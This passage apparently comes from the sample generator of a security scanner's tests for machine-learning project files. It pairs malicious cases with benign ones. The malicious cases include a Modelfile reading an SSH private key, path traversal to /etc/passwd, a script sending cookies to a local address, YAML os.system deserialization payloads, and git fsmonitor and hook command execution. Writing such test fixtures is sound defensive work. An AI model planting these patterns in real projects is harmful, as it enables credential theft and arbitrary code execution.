        "Modelfile": "FROM llama3\nADAPTER /root/.ssh/id_rsa\n",
        "MLmodel": "artifact_path: m\nflavors:\n  python_function:\n    model_path: ../../../etc/passwd\n",
        "data.dvc": "outs:\n- md5: 00\n  path: /etc/cron.d/x\n",
        "m.onnxtxt": 'graph { initializer { external_data { key: "location" value: "../../etc/passwd" } } }\n',
        "page.html": "<html><script>fetch('http://127.0.0.1/?' + document.cookie)</script></html>",
        "cr.yaml": "# comment\rroot: !!python/object/apply:os.system ['echo harmless']\n",
        "block.yaml": "a: |\n  text\nb: !!python/object/apply:os.system ['echo harmless']\n",
    }.items():
        data = text if isinstance(text, bytes) else text.encode()
        bad(f"tools/{name.strip('.')}", {name: data}, "text", "tools")
    bad("tools/git_config", {".git/config": b"[core]\n\tfsmonitor = echo harmless #\n", "a.txt": b"a"}, "text", "tools")
    bad("tools/git_hook", {".git/hooks/post-checkout": f"#!/bin/sh\n{PIPED}\n".encode(), "a.txt": b"a"}, "text", "tools")
    good(
        "tools/ok",
        {
            "Makefile": b"test:\n\tpython -m pytest\nmodel.bin:\n\tcurl -L -o model.bin https://example.org/model.bin\n",
            "run.sh": b"#!/bin/sh\nset -e\npip install -r requirements.txt\npython train.py\n",
            "serve.bat": b"@echo off\r\npython serve.py\r\n",
            "Modelfile": b"FROM ./model.gguf\nPARAMETER temperature 1\n",
            "checkpoint": b'model_checkpoint_path: "/home/me/run/model.ckpt-1"\n',
            "dvc.yaml": b"stages:\n  train:\n    cmd: python train.py\n",
            "settings.json": b'{\n  // tabs\n  "editor.tabSize": 2,\n}\n',
            "notes.yaml": b"text: |\n  !!python/object/apply:os.system [x]\nmore: plain\n  !!python/name:eval\n",
            ".git/config": b"[core]\n\tfsmonitor = true\n",
        },
        "text",
    )


def all_samples():
    xml_files()
    r_files()
    skops_files()
    tree_files()
    configuration_files()
    notebook_files()
    adapter_files()
    folder_files()
    tool_files()
